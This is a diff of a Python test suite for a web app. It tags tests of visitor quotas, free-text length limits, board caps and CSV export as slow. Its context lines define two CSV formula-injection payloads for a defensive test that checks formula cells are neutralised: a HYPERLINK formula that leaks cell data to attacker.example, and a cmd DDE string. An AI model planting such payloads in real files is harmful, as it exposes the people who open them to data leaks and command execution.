@@ -91,6 +91,7 @@ def runs(store: Store) -> int:
 # ---- item 3a: daily quotas per visitor -------------------------------------------------------------------------
 
 
+@pytest.mark.slow
 def test_the_runs_quota_refuses_a_visitors_start_saying_the_limit_the_setting_and_when_a_slot_frees(tmp_path: Path):
     clock = ManualClock(0.0)
     admission = Admission(max_active=4, max_active_per_owner=1, max_runs_per_day=2, now=clock)
@@ -141,6 +142,7 @@ def test_the_queue_mode_admission_counts_the_same_quota(tmp_path: Path):
     jobs._check_admission("alice")
 
 
+@pytest.mark.slow
 def test_the_uploads_quota_counts_per_visitor_or_owner_token_and_keeps_the_checked_file(tmp_path: Path):
     clock = ManualClock(0.0)
     with public_app(tmp_path, Admission(max_uploads_per_day=2, now=clock)) as app:
@@ -207,6 +209,7 @@ def test_a_private_deployment_with_a_quota_counts_everyone_together_and_zero_acc
 # ---- item 3b: length limits on free text ------------------------------------------------------------------------
 
 
+@pytest.mark.slow
 def test_over_long_model_name_notes_and_file_name_are_refused_before_anything_is_stored(tmp_path: Path):
     with running_app(tmp_path / "app") as app:
         client = Client(app.url, verbose=False)
@@ -266,6 +269,7 @@ def flood(store: Store, count: int, prefix: str = "flood") -> list[str]:
     return [store_submission(store, submission, f"{prefix}-{index:04d}", "flood notes") for index in range(count)]
 
 
+@pytest.mark.slow
 def test_a_board_over_the_cap_sends_at_most_the_cap_ranked_rows_first_and_says_how_many_more(tmp_path: Path):
     extra = 37
     with running_app(tmp_path / "app") as app:
@@ -324,6 +328,7 @@ HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")'
 HOSTILE_NOTES = "+cmd|' /C calc'!A0"
 
 
+@pytest.mark.slow
 def test_csv_download_neutralises_formula_cells_while_json_stays_exact(tmp_path: Path):
     with running_app(tmp_path / "app") as app:
         client = Client(app.url, verbose=False)
